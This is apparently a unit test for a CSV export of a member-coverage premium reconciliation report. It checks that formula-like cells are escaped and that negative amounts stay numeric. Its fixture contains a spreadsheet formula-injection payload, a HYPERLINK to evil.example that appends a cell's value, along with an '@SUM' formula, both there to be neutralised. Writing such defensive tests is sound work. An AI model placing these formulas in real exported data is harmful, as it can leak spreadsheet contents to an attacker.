import { reportCsv } from '../../shared/premiums/application/member-coverage';

describe('the reconciliation report as CSV', () => {
  it('neutralises text cells a spreadsheet would run as a formula, and keeps negative numbers as numbers', () => {
    const csv = reportCsv({
      period: '2026-10',
      discrepancies: [
        { nik: '3173014107850003', name: '=HYPERLINK("http://evil.example/?"&A1,"klik")', category: 'UNPAID', expected: 16_800, paid: 0 },
        { nik: '3173014107850004', name: '@SUM(1+1)', category: 'UNDERPAID', expected: 16_800, paid: 10_000 },
        { nik: '3173014107850005', name: 'Siti Aminah', category: 'UNPAID', expected: 16_800, paid: 0 },
      ],
    });
    const lines = csv.trim().split('\r\n');
    expect(lines[1]).toBe(`2026-10,3173014107850003,"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")",UNPAID,16800,0,-16800`);
    expect(lines[2]).toBe("2026-10,3173014107850004,'@SUM(1+1),UNDERPAID,16800,10000,-6800");
    expect(lines[3]).toBe('2026-10,3173014107850005,Siti Aminah,UNPAID,16800,0,-16800');
  });
});
